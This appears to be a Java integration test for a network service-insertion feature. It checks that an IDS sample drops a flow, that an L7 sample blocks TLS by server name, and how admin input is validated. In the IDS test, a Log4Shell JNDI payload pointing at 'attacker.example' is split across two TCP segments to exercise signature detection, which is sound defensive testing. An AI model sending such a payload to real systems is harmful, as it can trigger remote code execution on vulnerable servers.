package io.ringfence.itests;

import static io.ringfence.itests.ApiClient.Credentials.ADMIN;
import static io.ringfence.itests.ApiClient.Credentials.AUDITOR;
import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertNotNull;
import static org.junit.Assert.assertNull;
import static org.junit.Assert.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.ringfence.dataplane.agent.Verdict;
import io.ringfence.model.Action;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Supplier;
import org.junit.Before;
import org.junit.Test;
import org.junit.runner.RunWith;
import org.ops4j.pax.exam.junit.PaxExam;
import org.ops4j.pax.exam.spi.reactors.ExamReactorStrategy;
import org.ops4j.pax.exam.spi.reactors.PerClass;

/**
 * The acceptance test of service insertion, in a real Karaf: both partner samples installed as
 * features, a chain of their profiles configured over REST, and TCP flows played through the
 * data plane service between two simulated vNICs. The IDS drops a flow whose signature is split
 * across two segments; l7-appid blocks a TLS flow by its server name and lets another through; the
 * chain's counters and the alerts over REST agree with the verdicts; and bad admin input gets its
 * specific error and changes nothing.
 */
@RunWith(PaxExam.class)
@ExamReactorStrategy(PerClass.class)
public class ServiceInsertionIT extends ServiceInsertionTestSupport {

    private static final String TAGS = "si";
    private static final VmSpec CLIENT = new VmSpec("si-client", "client", "02:52:46:77:00:01", "10.77.0.10");
    private static final VmSpec SERVER = new VmSpec("si-server", "server", "02:52:46:77:00:02", "10.77.0.20");
    private static final String CHAIN = "si-web-chain";
    private static final String L7_PROFILE = "si-l7";
    private static final String IDS_PROFILE = "si-ids";

    /** Client ports: each test's flows are new flows. */
    private static final AtomicInteger PORTS = new AtomicInteger(41000);
    /** The data center is built once per container (the class's tests share it). */
    private static boolean configured;

    private ApiClient api;

    @Before
    public void installSamplesAndConfigure() throws Exception {
        api = api();
        awaitApi(api, "/api/v1/groups");
        if (configured) {
            return;
        }
        installSample(api, "ringfence-sample-l7-appid", L7_APPID);
        installSample(api, "ringfence-sample-ids-signatures", IDS);

        hostWithVms(api, "si-host", TAGS, CLIENT, SERVER);
        roleGroup(api, "si-clients", TAGS, "client");
        roleGroup(api, "si-servers", TAGS, "server");
        create(api, "/api/v1/services", """
                {"id":"si-web","name":"HTTP and HTTPS","entries":[{"protocol":"TCP","destinationPorts":["80","443"]}]}""");
        create(api, "/api/v1/policies", """
                {"id":"si-app","name":"Clients reach the servers","category":"APPLICATION",
                 "rules":[{"id":"si-clients-to-servers","sources":["si-clients"],"destinations":["si-servers"],
                           "services":["si-web"],"action":"ALLOW"}]}""");
        create(api, SI + "profiles", """
                {"id":"%s","name":"No blocked.example","definition":"%s",
                 "values":{"denyHosts":["blocked.example","*.blocked.example"],"defaultAction":"allow"}}"""
                .formatted(L7_PROFILE, L7_APPID));
        create(api, SI + "profiles", """
                {"id":"%s","name":"Signatures, prevent","definition":"%s","values":{"mode":"prevent"}}"""
                .formatted(IDS_PROFILE, IDS));
        create(api, SI + "chains", """
                {"id":"%s","name":"Web inspection","profiles":["%s","%s"],"failurePolicy":"BLOCK","deadlineMicros":1000000}"""
                .formatted(CHAIN, L7_PROFILE, IDS_PROFILE));
        // OUT only: each flow is steered once, at the client's vNIC (both of its sides, there)
        create(api, SI + "redirection-policies", """
                {"id":"si-inspect","name":"Inspect the clients' web traffic",
                 "rules":[{"id":"si-inspect-web","sources":["si-clients"],"destinations":["si-servers"],
                           "services":["si-web"],"direction":"OUT","action":"REDIRECT","chain":"%s"}]}"""
                .formatted(CHAIN));
        awaitSteering(api, CLIENT.id(), SERVER.id(), 443, CHAIN);
        configured = true;
    }

    private TcpFlow flow(int serverPort) {
        return new TcpFlow(dataPlane, CLIENT.endpoint(), PORTS.incrementAndGet(), SERVER.endpoint(), serverPort);
    }

    /** Tallies the chain's verdicts on the segments the test sends, to compare with the chain's counters. */
    private static final class Tally {
        final Map<io.ringfence.spi.inspection.Verdict, Integer> byVerdict =
                new EnumMap<>(io.ringfence.spi.inspection.Verdict.class);
        int packets;

        /** Counts the segment's chain verdict; returns it. */
        Verdict count(TcpFlow.Crossing c) {
            Verdict steered = c.steered();
            assertNotNull("every segment of the flow goes through the chain: " + c, steered);
            assertEquals(CHAIN, steered.chainId());
            packets++;
            byVerdict.merge(steered.inspection(), 1, Integer::sum);
            return steered;
        }

        void count(List<TcpFlow.Crossing> crossings) {
            assertEquals("handshake and close play all three segments: " + crossings, 3, crossings.size());
            for (TcpFlow.Crossing c : crossings) {
                assertTrue("handshake and close pass: " + c, c.delivered());
                count(c);
            }
        }

        int of(io.ringfence.spi.inspection.Verdict v) {
            return byVerdict.getOrDefault(v, 0);
        }

        /** The chain's counters grew by exactly what this tally saw. */
        void assertCounted(JsonNode before, JsonNode after) {
            String both = "before " + before + "\nafter " + after + "\ntally " + byVerdict;
            assertEquals(both, packets, after.path("packets").asLong() - before.path("packets").asLong());
            assertEquals(both, of(io.ringfence.spi.inspection.Verdict.PASS),
                    after.path("passed").asLong() - before.path("passed").asLong());
            assertEquals(both, of(io.ringfence.spi.inspection.Verdict.DROP),
                    after.path("dropped").asLong() - before.path("dropped").asLong());
            assertEquals(both, of(io.ringfence.spi.inspection.Verdict.REJECT),
                    after.path("rejected").asLong() - before.path("rejected").asLong());
            assertEquals(both, of(io.ringfence.spi.inspection.Verdict.PASS_AND_BYPASS),
                    after.path("bypassed").asLong() - before.path("bypassed").asLong());
            assertEquals("no failure: " + after, 0, after.path("failures").size());
        }
    }

    @Test
    public void bothSamplesAreInstalledAsFeaturesAndListedWithTheirSchemas() throws Exception {
        for (String feature : List.of("ringfence-sample-l7-appid", "ringfence-sample-ids-signatures")) {
            assertTrue(feature, features.isInstalled(features.getFeature(feature)));
        }
        JsonNode definitions = api.get(SI + "definitions", AUDITOR).json();
        assertEquals(definitions.toString(), 2, definitions.path("total").asInt());
        for (JsonNode d : definitions.path("items")) {
            assertTrue(d.toString(), d.path("available").asBoolean());
            assertEquals(d.toString(), "UP", d.path("instances").path(0).path("health").asText());
            assertEquals(d.toString(), "object", d.path("profileSchema").path("type").asText());
        }
        JsonNode ids = api.get(SI + "definitions/" + IDS, AUDITOR).json();
        assertEquals("prevent", ids.path("profileSchema").path("properties").path("mode").path("default").asText());
    }

    @Test
    public void theIdsDropsAFlowWhoseSignatureIsSplitAcrossTwoSegments() {
        JsonNode before = chainStats(api, CHAIN);
        Tally tally = new Tally();
        TcpFlow flow = flow(80);
        tally.count(flow.handshake());

        // Log4Shell (built-in signature 1002, "${jndi:" in any case): half in each segment
        TcpFlow.Crossing first = flow.clientSends("GET /search?q=${jN");
        assertTrue("the first half passes: " + first, first.delivered());
        assertEquals(io.ringfence.spi.inspection.Verdict.PASS, tally.count(first).inspection());
        byte[] rest = "di:ldap://attacker.example/a} HTTP/1.1\r\nHost: shop.example\r\n\r\n"
                .getBytes(StandardCharsets.US_ASCII);
        TcpFlow.Crossing second = flow.clientSends(rest);
        Verdict dropped = tally.count(second);
        assertEquals("the second half completes the signature: " + second, Action.DROP, dropped.action());
        assertEquals(io.ringfence.spi.inspection.Verdict.DROP, dropped.inspection());
        assertNull("dropped at the client's vNIC, never delivered", second.in());
        // the flow stays blocked: the retransmission, and the server's side too
        assertEquals(Action.DROP, tally.count(flow.clientResends(rest)).action());
        assertEquals(Action.DROP, tally.count(flow.serverSends("HTTP/1.1 400 Bad Request\r\n\r\n")).action());

        tally.assertCounted(before, chainStats(api, CHAIN));
        JsonNode alert = alert(IDS, a -> a.path("signature").asText().equals("1002"));
        assertTrue(alert.toString(), alert.path("blocked").asBoolean());
        assertEquals(alert.toString(), "CRITICAL", alert.path("severity").asText());
        assertEquals(alert.toString(), IDS_PROFILE, alert.path("profileId").asText());
    }

    @Test
    public void l7AppIdBlocksATlsFlowByServerNameAndAllowsAnother() {
        JsonNode before = chainStats(api, CHAIN);
        Tally tally = new Tally();

        TcpFlow blocked = flow(443);
        tally.count(blocked.handshake());
        TcpFlow.Crossing hello = blocked.clientSends(TlsClientHello.record("www.blocked.example"));
        Verdict denied = tally.count(hello);
        assertEquals("the ClientHello naming a denied host: " + hello, Action.DROP, denied.action());
        assertEquals(io.ringfence.spi.inspection.Verdict.DROP, denied.inspection());
        assertEquals("every later packet of the flow too", Action.DROP,
                tally.count(blocked.serverSends(new byte[] {22, 3, 3, 0, 0})).action());

        TcpFlow allowed = flow(443);
        tally.count(allowed.handshake());
        TcpFlow.Crossing otherHello = allowed.clientSends(TlsClientHello.record("www.allowed.example"));
        assertTrue("the ClientHello naming another host is delivered: " + otherHello, otherHello.delivered());
        tally.count(otherHello);
        TcpFlow.Crossing serverHello = allowed.serverSends(new byte[] {22, 3, 3, 0, 4, 2, 0, 0, 0});
        assertTrue("and so is the answer: " + serverHello, serverHello.delivered());
        tally.count(serverHello);
        tally.count(allowed.close());

        tally.assertCounted(before, chainStats(api, CHAIN));
        JsonNode alert = alert(L7_APPID, a -> a.path("signature").asText().equals("host:www.blocked.example"));
        assertTrue(alert.toString(), alert.path("blocked").asBoolean());
        assertEquals(alert.toString(), L7_PROFILE, alert.path("profileId").asText());
        assertEquals(alert.toString(), CLIENT.id(), alert.path("vmId").asText());
        assertEquals(alert.toString(), CHAIN, alert.path("chainId").asText());
        assertTrue("no alert names the allowed host", alerts(L7_APPID).stream()
                .noneMatch(a -> a.path("signature").asText().contains("allowed.example")));
    }

    @Test
    public void badAdminInputGetsItsSpecificErrorAndChangesNothing() {
        JsonNode unknown = refused(422, SI + "profiles/" + L7_PROFILE, () -> api.post(SI + "profiles", ADMIN,
                "{\"name\":\"p\",\"definition\":\"globex/waf\",\"values\":{}}"));
        assertEquals(List.of("/definition"), fields(unknown));
        assertTrue(unknown.toString(), unknown.path("detail").asText().contains("globex/waf"));

        JsonNode schema = refused(422, SI + "profiles/" + L7_PROFILE, () -> api.post(SI + "profiles", ADMIN, """
                {"name":"p","definition":"%s","values":{"allowApps":["ftp"],"maxBytes":10,"colour":"red"}}"""
                .formatted(L7_APPID)));
        assertEquals(List.of("/values/colour", "/values/allowApps", "/values/maxBytes"), fields(schema));
        String current = api.get(SI + "profiles/" + L7_PROFILE, ADMIN).header("ETag").orElseThrow();
        refused(422, SI + "profiles/" + L7_PROFILE, () -> api.put(SI + "profiles/" + L7_PROFILE, ADMIN, current,
                "{\"name\":\"p\",\"definition\":\"" + L7_APPID + "\",\"values\":{\"action\":\"explode\"}}"));

        JsonNode chain = refused(422, SI + "chains/" + CHAIN, () -> api.post(SI + "chains", ADMIN,
                "{\"name\":\"c\",\"profiles\":[\"" + IDS_PROFILE + "\",\"no-such-profile\"],\"failurePolicy\":\"BLOCK\"}"));
        assertEquals(List.of("/profiles/1"), fields(chain));
        assertTrue(chain.toString(), chain.path("detail").asText().contains("no-such-profile"));

        JsonNode inUse = refused(409, SI + "profiles/" + IDS_PROFILE,
                () -> api.delete(SI + "profiles/" + IDS_PROFILE, ADMIN));
        List<String> users = new ArrayList<>();
        inUse.path("users").forEach(u -> users.add(u.path("id").asText()));
        assertEquals(inUse.toString(), List.of(CHAIN), users);
    }

    /**
     * Runs a refused request: its status and problem document, no change committed (the audit log does
     * not grow), and the object at {@code objectPath} exactly as before. Returns the problem.
     */
    private JsonNode refused(int status, String objectPath, Supplier<ApiClient.Response> request) {
        long changes = api.get("/api/v1/audit?limit=1", ADMIN).json().path("total").asLong();
        String object = api.get(objectPath, ADMIN).body();
        ApiClient.Response r = request.get();
        assertEquals(r.toString(), status, r.status());
        assertTrue(r.toString(), r.header("Content-Type").orElse("").startsWith("application/problem+json"));
        assertEquals("nothing committed", changes, api.get("/api/v1/audit?limit=1", ADMIN).json().path("total").asLong());
        assertEquals("unchanged", object, api.get(objectPath, ADMIN).body());
        return r.json();
    }

    private static List<String> fields(JsonNode problem) {
        List<String> fields = new ArrayList<>();
        problem.path("errors").forEach(e -> fields.add(e.path("field").asText()));
        return fields;
    }

    private List<JsonNode> alerts(String definition) {
        List<JsonNode> alerts = new ArrayList<>();
        api.get(SI + "alerts?definition=" + definition + "&limit=1000", AUDITOR).json().forEach(alerts::add);
        return alerts;
    }

    /** The newest alert of {@code definition} matching, over REST. */
    private JsonNode alert(String definition, java.util.function.Predicate<JsonNode> matching) {
        return alerts(definition).stream().filter(matching).findFirst()
                .orElseThrow(() -> new AssertionError("no such alert of " + definition + ": " + alerts(definition)));
    }
}
